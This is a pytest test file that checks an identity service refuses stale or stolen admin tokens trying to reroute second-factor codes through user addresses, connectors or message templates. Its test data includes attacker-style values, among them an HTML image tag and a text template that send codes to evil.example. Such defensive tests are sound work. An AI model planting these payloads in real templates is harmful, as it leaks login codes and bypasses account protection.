"""An old stolen token of an administrator, which has the codes of second factors sent elsewhere (AP47)."""

import pytest

from identity.users.models import User
from identity.users.notices import Notice
from interaction.connectors.models import Connector
from interaction.experience import services as experience
from interaction.experience.message_templates import CODES
from tests.support import codes, management
from tests.support.factors import switch_on
from tests.support.management import refusal_of, result_of
from tests.support.old_tokens import is_refused
from tests.support.operators import hidden_fields
from tests.support.site_sessions import age

EMAIL, PHONE = "EmailVerificationCode", "PhoneVerificationCode"


@pytest.fixture
def acme(acme):
    return codes.reachable(acme)


@pytest.fixture
def admin(acme):
    return management.superuser(acme)


class TestAddresses:
    @pytest.fixture
    def user(self, acme):
        return acme.user(email=codes.new_email(), phone=codes.new_phone())

    @pytest.fixture
    def path(self, user):
        return f"/users/{user.pk}"

    @pytest.mark.parametrize(
        ("factor", "change"),
        [
            (EMAIL, {"email": "thief@evil.example", "email_verified": True}),
            (EMAIL, {"email": "thief@evil.example"}),
            (EMAIL, {"email": ""}),
            (EMAIL, {"email_verified": True}),
            (PHONE, {"phone": "+41791112233", "phone_verified": True}),
            (PHONE, {"phone_verified": True}),
        ],
    )
    def test_attack_AP47_an_old_token_does_not_move_the_code(self, acme, thief, user, factor, change):
        switch_on(acme, "Totp", factor)
        with acme.active():
            before = User.objects.values("email", "phone", "email_verified", "version").get(pk=user.pk)

        assert is_refused(thief.patch(f"/users/{user.pk}", **change))
        with acme.active():
            after = User.objects.values("email", "phone", "email_verified", "version").get(pk=user.pk)
        assert after == before

    def test_attack_AP47_a_recent_one_does_and_so_does_an_application(self, acme, path, recent):
        switch_on(acme, "Totp", EMAIL)

        for caller in (recent, management.machine(acme)):
            result_of(caller.patch(path, email=codes.new_email(), email_verified=True))

    def test_attack_AP47_what_no_code_goes_to_needs_no_proof(self, acme, thief, user, path):
        result_of(thief.patch(path, email_verified=True))
        switch_on(acme, "Totp", EMAIL)

        result_of(thief.patch(path, phone=codes.new_phone(), phone_verified=True))
        result_of(thief.patch(path, name="Ada", email=user.email, email_verified=True))


class TestConnectors:
    """Connectors send the codes."""

    @pytest.fixture
    def path(self, acme):
        with acme.active():
            return f"/connectors/{Connector.objects.get(type='Email').pk}"

    @pytest.fixture(autouse=True)
    def codes_by_email(self, acme):
        switch_on(acme, "Totp", EMAIL)

    def test_attack_AP47_an_old_token_sends_no_codes_its_own_way(self, thief, admin, path):
        sender = {"connector_id": "outbox-email", "type": "Email", "config": {}, "enabled": True}

        assert is_refused(thief.post("/connectors", **sender))
        assert is_refused(thief.patch(path, config={}))
        assert is_refused(thief.patch(path, enabled=True))
        assert len(result_of(admin.get("/connectors"))["data"]) == 2

    def test_attack_AP47_a_recent_one_does_and_so_does_an_application(self, acme, path, recent):
        for caller in (recent, management.machine(acme)):
            result_of(caller.patch(path, enabled=False))
            result_of(caller.patch(path, enabled=True))

    def test_attack_AP47_connectors_that_send_no_codes_need_no_proof(self, acme, thief):
        with acme.active():
            sms = Connector.objects.get(type="Sms").pk

        result_of(thief.patch(f"/connectors/{sms}", enabled=False))

    def test_attack_AP47_an_old_token_has_no_earlier_connector_send_them(self, thief, old_session, path):
        """Codes go through the newest enabled connector."""
        page = f"/admin/connectors/connector/{path.rpartition('/')[2]}/do"

        assert is_refused(thief.patch(path, enabled=False))
        assert is_refused(thief.delete(path))
        for operation in ("disable", "delete"):
            asked = old_session.get(f"{page}/{operation}/").headers.get("Location", "")
            assert asked.startswith("/admin/confirm/")

    def test_attack_AP47_an_unattended_session_creates_none(self, acme, old_session):
        page = "/admin/connectors/connector/do/create-outbox-email/"
        asked = old_session.get(page)
        age(old_session, 0)
        form = hidden_fields(old_session.get(page))
        age(old_session)
        refused = old_session.http.post(page, data=form)
        age(old_session, 0)
        created = old_session.http.post(page, data=form)

        for answer in (asked, refused):
            assert answer.headers["Location"].startswith("/admin/confirm/")
        assert created.headers["Location"].startswith("/admin/connectors/connector/")
        with acme.active():
            assert Connector.objects.filter(type="Email").count() == 2


class TestMessages:
    """The template of a message may send its code to another server, for example with a picture."""

    PICTURE = '<p>{code}</p><img src="https://evil.example/p.gif?c={code}">'

    @pytest.fixture(
        autouse=True, params=[("Totp", EMAIL), ()], ids=["with codes as factors", "without factors"]
    )
    def factors(self, acme, request):
        if request.param:
            switch_on(acme, *request.param)

    def template(self, **more):
        template = {"purpose": "second_factor", "channel": "email", "language": "", "subject": "Hello"}
        return template | {"text": "{code}", "html": "<p>{code}</p>"} | more

    def send(self, caller, *templates):
        return caller.patch("/sign-in-experience", message_templates=list(templates))

    @pytest.mark.parametrize("purpose", CODES)
    def test_attack_AP49_an_old_token_does_not_change_where_the_code_is_shown(self, admin, thief, purpose):
        own = self.template(purpose=purpose)

        assert is_refused(self.send(thief, own))
        result_of(self.send(admin, own))
        assert is_refused(self.send(thief))
        assert is_refused(self.send(thief, own | {"text": "https://evil.example/{code}"}))
        assert result_of(admin.get("/sign-in-experience"))["message_templates"] == [own]

    def test_attack_AP49_an_old_token_plants_none_before_there_are_factors(self, acme, admin, thief):
        own = self.template()

        assert is_refused(self.send(thief, own))
        assert is_refused(self.send(thief, own | {"channel": "sms", "subject": "", "html": ""}))
        assert result_of(admin.get("/sign-in-experience"))["message_templates"] == []

    def test_attack_AP49_a_recent_one_does_and_so_does_an_application(self, acme, recent):
        for language, caller in (("de", recent), ("fr", management.machine(acme))):
            result_of(self.send(caller, self.template(language=language)))

    def test_attack_AP49_messages_without_codes_need_no_proof(self, admin, thief):
        own = [self.template(), self.template(language="de")]
        result_of(self.send(admin, *own))
        notice = self.template(purpose=Notice.PASSWORD_CHANGED, text="Hello", html="")

        result_of(self.send(thief, *reversed(own), notice))

    def test_attack_AP49_an_unattended_session_changes_none_either(self, acme, old_session):
        with acme.active():
            pk = experience.current().pk
        page = f"/admin/experience/signinexperience/{pk}/do"

        for channel in ("email", "sms"):
            asked = old_session.get(f"{page}/message-second_factor-{channel}-any/")
            assert asked.headers["Location"].startswith("/admin/confirm/")
        notice = old_session.get(f"{page}/message-{Notice.PASSWORD_CHANGED}-email-any/")
        assert notice.status_code == 200

    def test_a_template_of_an_earlier_release_does_not_stop_changes_of_others(self, acme, recent):
        with acme.active():
            row = experience.current()
            row.message_templates = [self.template(html=self.PICTURE)]
            row.save(update_fields=["message_templates"])
        other = self.template(language="de")

        result_of(
            recent.patch("/sign-in-experience", message_templates=[self.template(html=self.PICTURE), other])
        )
        changed = [other, self.template(html=self.PICTURE, text="Changed: {code}")]
        answer = recent.patch("/sign-in-experience", message_templates=changed)

        assert "may contain {code} only" in refusal_of(answer, 400)
        assert [error["field"] for error in answer.json()["errors"]] == ["message_templates[1].html"]
